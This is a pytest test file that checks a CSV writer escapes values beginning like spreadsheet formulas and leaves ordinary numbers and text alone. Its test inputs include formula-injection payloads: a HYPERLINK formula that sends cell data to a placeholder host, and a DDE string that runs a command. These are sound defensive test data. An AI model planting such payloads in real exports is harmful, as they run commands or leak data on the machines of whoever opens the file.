"""CSV in which no name is a formula."""

import csv
import io

import pytest

from w2s_plugins.files import to_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "-",
    ],
)
def test_a_text_that_begins_like_a_formula_is_a_text(text: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv([{text: text}]), newline="")))
    assert rows == [["'" + text.replace("\r", " ").replace("\n", " ")]] * 2


def test_numbers_and_other_texts_stay() -> None:
    row = {
        "a": -0.5,
        "b": "-0.5",
        "c": "+1e-3",
        "d": None,
        "e": "a\r=b",
        "f": "x-y",
        "g": True,
        "h": -3,
        "i": "",
    }
    assert to_csv([row, {"z": 1}]) == (
        "a,b,c,d,e,f,g,h,i,z\n-0.5,-0.5,+1e-3,,a =b,x-y,True,-3,,\n,,,,,,,,,1\n"
    )
